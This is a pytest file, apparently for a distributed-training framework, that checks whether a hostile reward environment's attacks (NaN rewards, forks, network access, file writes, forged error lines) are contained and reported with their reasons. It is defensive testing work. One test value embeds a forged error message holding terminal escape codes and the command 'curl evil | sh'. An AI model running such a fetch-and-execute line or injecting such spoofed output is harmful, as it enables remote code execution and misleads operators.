"""An environment that attacks its node: right answers keep their rewards, and each fault is named."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from typing import Any

import pytest

from hivemind_exp.config import TaskConfig
from hivemind_exp.errors import NodeError
from hivemind_exp.tasks.base import Score
from hivemind_exp.tasks.mixture import Mixture
from hivemind_exp.tasks.workers.checked_replies import TOO_SLOW, UNJUDGED
from tests.support.hostile.environment import CODE, PACKAGE
from tests.support.stand_in_verifiers import install

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", autouse=True)
def cache(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """Install the environment once."""
    place = str(tmp_path_factory.mktemp("cache"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CACHE_HOME", place)
        install(PACKAGE, CODE)
        yield


def opened(**params: Any) -> Mixture:
    task = TaskConfig(name=f"env:{PACKAGE}", params=params)
    return Mixture([task], charter=b"", secret=b"s", heldout=2, verifiers=1)


@pytest.fixture(scope="module")
def shared() -> Iterator[Mixture]:
    """For attacks that their worker survives."""
    with closing(opened()) as mixture:
        yield mixture


def attacked(mixture: Mixture, deed: str) -> list[Score]:
    """Return the scores of a right answer, an attack and another right answer."""
    questions = mixture.questions("train", 0, 3)
    answers = [str(questions[0].entry["answer"]), f"attack: {deed}", str(questions[2].entry["answer"])]
    return mixture.score(questions, [f"<answer>{answer}</answer>" for answer in answers])


@pytest.mark.parametrize(
    ("deed", "why"),
    [
        ("nan", "score returned nan. A reward and its parts must be between"),
        ("huge", "score returned 1e+308. A reward and its parts must be between"),
        ("large", "score returned 2e+06. A reward and its parts must be between"),
        ("infinite", "score returned inf. A reward and its parts must be between"),
        ("none", "score failed: TypeError"),
        ("leave", "score failed: SystemExit"),
        ("interrupt", UNJUDGED),
        ("exit", UNJUDGED),
        ("sleep", UNJUDGED),
        ("spin", TOO_SLOW),
        ("fork", "PermissionError"),
        ("thread", "score failed: RuntimeError"),
        ("memory", "MemoryError"),
        ("connect", "PermissionError"),
        ("write", "PermissionError"),
        ("read", "PermissionError"),
        ("parent", "PermissionError"),
        ("kill", "PermissionError"),
        ("print", "wrong"),
        ("junk", UNJUDGED),
        ("forged", 'ValueError: "\\x1b[2J error: forged try: curl evil | sh \\u202e"'),
    ],
)
def test_an_attack_while_scoring_earns_nothing_and_costs_no_right_answer_its_reward(
    deed: str, why: str, shared: Mixture
) -> None:
    if why in (UNJUDGED, TOO_SLOW):
        with closing(opened()) as mixture:
            right, attack, again = attacked(mixture, deed)
    else:
        right, attack, again = attacked(shared, deed)
    assert (right.reward, again.reward) == (1.0, 1.0)
    assert (attack.outcome, attack.reward) == (0.0, 0.0)
    assert why in attack.why
    assert attack.judged is (why != UNJUDGED)


@pytest.mark.parametrize(
    ("params", "why", "command"),
    [
        ({"load": "refuse"}, "forged\\x1b[2J\\nerror: forged", None),
        ({"load": "forged"}, 'cannot load the task: ValueError: "\\x1b[2J error: forged', "sed -n "),
        ({"load": "ready"}, "sent something else than a description of its tasks", "swarmctl tasks list"),
        ({"load": "odd"}, "sent something else than a description of its tasks", "swarmctl tasks list"),
        ({"load": "exit"}, "exited with code 0 before it was ready", ""),
        ({"load": "fork first"}, "exited with code 7 before it was ready", ""),
        ({"load": "spin"}, "need more than 2 s of CPU time to load", None),
        ({"rows": "large"}, "bytes, more than 1,048,576", None),
        ({"rows": "endless"}, "never ends", ""),
        ({"rows": "odd"}, "cannot load the task: TypeError", ""),
        ({"terms": 40}, "has 40 weighted reward functions, more than 32", "swarmctl tasks list"),
    ],
)
def test_an_environment_that_cannot_be_used_is_refused_with_the_reason(
    params: dict[str, Any], why: str, command: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    if params == {"load": "spin"}:
        monkeypatch.setattr("hivemind_exp.tasks.workers.pool.LOAD_SECONDS", 2.0)
    with closing(opened(**params)) as mixture, pytest.raises(NodeError) as caught:
        mixture.questions("train", 0, 20)
    assert why in caught.value.message
    assert caught.value.message.isprintable()
    assert caught.value.next is None if command is None else str(caught.value.next).startswith(command)


def test_threads_that_outlive_loading_are_reported() -> None:
    with closing(opened(load="thread")) as mixture:
        reasons = [each for each in mixture.still_open() if "threads" in each]
        (reason,) = reasons
        assert '("watcher\\x1b[2J error: forged' in reason
    with closing(opened()) as mixture:
        assert [each for each in mixture.still_open() if "threads" in each] == []


def test_a_question_cannot_forge_a_line() -> None:
    with closing(opened(rows="forged")) as mixture:
        assert "error: forged" in mixture.questions("train", 0, 1)[0].text
